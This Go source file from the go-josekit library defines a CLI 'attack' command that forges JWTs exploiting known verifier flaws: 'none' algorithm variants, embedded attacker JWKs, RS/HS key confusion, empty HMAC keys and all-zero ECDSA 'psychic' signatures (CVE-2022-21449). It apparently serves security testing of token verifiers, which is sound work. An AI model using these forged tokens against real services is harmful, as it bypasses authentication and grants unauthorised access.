// Copyright (c) 2025 Jeremy Hahn
// Copyright (c) 2025 Automate The Things, LLC
//
// This file is part of go-josekit.
//
// go-josekit is dual-licensed:
//
// 1. GNU Affero General Public License v3.0 (AGPL-3.0)
//    See LICENSE file or visit https://www.gnu.org/licenses/agpl-3.0.html
//
// 2. Commercial License
//    Contact licensing@automatethethings.com for commercial licensing options.

package cli

import (
	"github.com/spf13/cobra"

	"github.com/jeremyhahn/go-josekit/pkg/attack"
	"github.com/jeremyhahn/go-josekit/pkg/jose"
	"github.com/jeremyhahn/go-josekit/pkg/keys"
	"github.com/jeremyhahn/go-josekit/pkg/metrics"
)

// Attack names, used as command names and metric labels
const (
	attackNone         = "none"
	attackEmbeddedJWK  = "embed-jwk"
	attackKeyConfusion = "key-confusion"
	attackEmptyKey     = "empty-key"
	attackPsychic      = "psychic"
)

func (a *app) newAttackCmd() *cobra.Command {
	cmd := &cobra.Command{
		Use:   "attack",
		Short: "Forge tokens for JWT verifier attacks",
		Long: `Forge modified copies of a JWS that exercise common verifier flaws. The
input token is never altered; every forged token is printed.`,
	}
	cmd.AddCommand(a.newAttackNoneCmd())
	cmd.AddCommand(a.newAttackEmbeddedJWKCmd())
	cmd.AddCommand(a.newAttackKeyConfusionCmd())
	cmd.AddCommand(a.newAttackEmptyKeyCmd())
	cmd.AddCommand(a.newAttackPsychicCmd())
	return cmd
}

// parseTarget reads the JWS an attack operates on
func parseTarget(cmd *cobra.Command, args []string) (jose.Object, error) {
	token, err := readInput(cmd, args)
	if err != nil {
		return nil, err
	}
	return jose.Parse(token)
}

// forge runs one attack and prints its results
func (a *app) forge(cmd *cobra.Command, name string, fn func() ([]*attack.Result, error)) error {
	timer := metrics.NewTimer(metrics.OpAttack, name)
	results, err := fn()
	observe(timer, err)
	if err != nil {
		return err
	}

	out := make([]AttackOutput, 0, len(results))
	for _, r := range results {
		metrics.RecordAttack(name)
		out = append(out, AttackOutput{Attack: name, Token: r.Object, Key: r.Key})
	}
	a.logger.Debug("forged tokens", "attack", name, "count", len(out))
	return a.printer(cmd.OutOrStdout()).PrintAttacks(out)
}

func single(r *attack.Result, err error) ([]*attack.Result, error) {
	if err != nil {
		return nil, err
	}
	return []*attack.Result{r}, nil
}

func (a *app) newAttackNoneCmd() *cobra.Command {
	var (
		mode     string
		variants []string
	)
	cmd := &cobra.Command{
		Use:   "none [token]",
		Short: "Strip the signature and set a none algorithm",
		Long: `Produce one unsigned token per none variant. The variants come from
attack.none_mode in the configuration: canonical (none, None, NONE, nOnE),
all (every casing) or custom (attack.none_variants). --variant overrides both.`,
		Args: cobra.MaximumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			obj, err := parseTarget(cmd, args)
			if err != nil {
				return err
			}

			noneMode, custom := a.cfg.Attack.NoneMode, a.cfg.Attack.NoneVariants
			if mode != "" {
				noneMode = mode
			}
			if len(variants) > 0 {
				noneMode, custom = attack.NoneModeCustom, variants
			}
			selected, err := attack.VariantsForMode(noneMode, custom)
			if err != nil {
				return err
			}
			return a.forge(cmd, attackNone, func() ([]*attack.Result, error) {
				return attack.NoneVariants(obj, selected)
			})
		},
	}
	cmd.Flags().StringVar(&mode, "mode", "", "variant set (canonical, all, custom)")
	cmd.Flags().StringSliceVar(&variants, "variant", nil, "none variant to use (repeatable)")
	return cmd
}

func (a *app) newAttackEmbeddedJWKCmd() *cobra.Command {
	var (
		alg string
		key keyFlags
	)
	cmd := &cobra.Command{
		Use:   "embed-jwk [token]",
		Short: "Sign with an attacker key and embed it as the jwk header",
		Long: `Sign the token with --key, or with a freshly generated RSA key of
keys.rsa_bits, and embed the public key in the "jwk" header member. The
signing key is printed along with the token.`,
		Args: cobra.MaximumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			obj, err := parseTarget(cmd, args)
			if err != nil {
				return err
			}

			var k *keys.Key
			if key.provided() {
				k, err = key.load()
			} else {
				k, err = keys.GenerateRSA(a.cfg.Keys.RSABits, key.kid)
			}
			if err != nil {
				return err
			}
			return a.forge(cmd, attackEmbeddedJWK, func() ([]*attack.Result, error) {
				return single(attack.EmbeddedJWK(obj, k, alg))
			})
		},
	}
	cmd.Flags().StringVarP(&alg, "alg", "a", "", "signature algorithm (default depends on the key)")
	key.register(cmd, "attacker signing key")
	return cmd
}

func (a *app) newAttackKeyConfusionCmd() *cobra.Command {
	var (
		alg             string
		trailingNewline bool
		key             keyFlags
	)
	cmd := &cobra.Command{
		Use:   "key-confusion [token]",
		Short: "HMAC-sign with the public key PEM as secret",
		Long: `Sign the token with an HMAC algorithm whose secret is the PEM text of the
server's public key, for verifiers that pick the algorithm from the token.
attack.trailing_newline controls whether the PEM keeps its final newline.`,
		Args: cobra.MaximumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			obj, err := parseTarget(cmd, args)
			if err != nil {
				return err
			}
			k, err := key.load()
			if err != nil {
				return err
			}
			newline := a.cfg.Attack.TrailingNewline
			if cmd.Flags().Changed("trailing-newline") {
				newline = trailingNewline
			}
			return a.forge(cmd, attackKeyConfusion, func() ([]*attack.Result, error) {
				return single(attack.KeyConfusion(obj, k, alg, newline))
			})
		},
	}
	cmd.Flags().StringVarP(&alg, "alg", "a", "", "HMAC algorithm (default HS256)")
	cmd.Flags().BoolVar(&trailingNewline, "trailing-newline", true, "keep the newline at the end of the PEM")
	key.register(cmd, "server public key")
	return cmd
}

func (a *app) newAttackEmptyKeyCmd() *cobra.Command {
	var alg string
	cmd := &cobra.Command{
		Use:   "empty-key [token]",
		Short: "HMAC-sign with a zero-length secret",
		Args:  cobra.MaximumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			obj, err := parseTarget(cmd, args)
			if err != nil {
				return err
			}
			return a.forge(cmd, attackEmptyKey, func() ([]*attack.Result, error) {
				return single(attack.EmptyKey(obj, alg))
			})
		},
	}
	cmd.Flags().StringVarP(&alg, "alg", "a", "", "HMAC algorithm (default HS256)")
	return cmd
}

func (a *app) newAttackPsychicCmd() *cobra.Command {
	var alg string
	cmd := &cobra.Command{
		Use:   "psychic [token]",
		Short: "Replace the signature with an all-zero ECDSA signature",
		Long: `Set an ECDSA algorithm and an all-zero signature of its length. Verifiers
affected by CVE-2022-21449 accept such tokens.`,
		Args: cobra.MaximumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			obj, err := parseTarget(cmd, args)
			if err != nil {
				return err
			}
			return a.forge(cmd, attackPsychic, func() ([]*attack.Result, error) {
				return single(attack.PsychicSignature(obj, alg))
			})
		},
	}
	cmd.Flags().StringVarP(&alg, "alg", "a", "", "ECDSA algorithm (default ES256)")
	return cmd
}
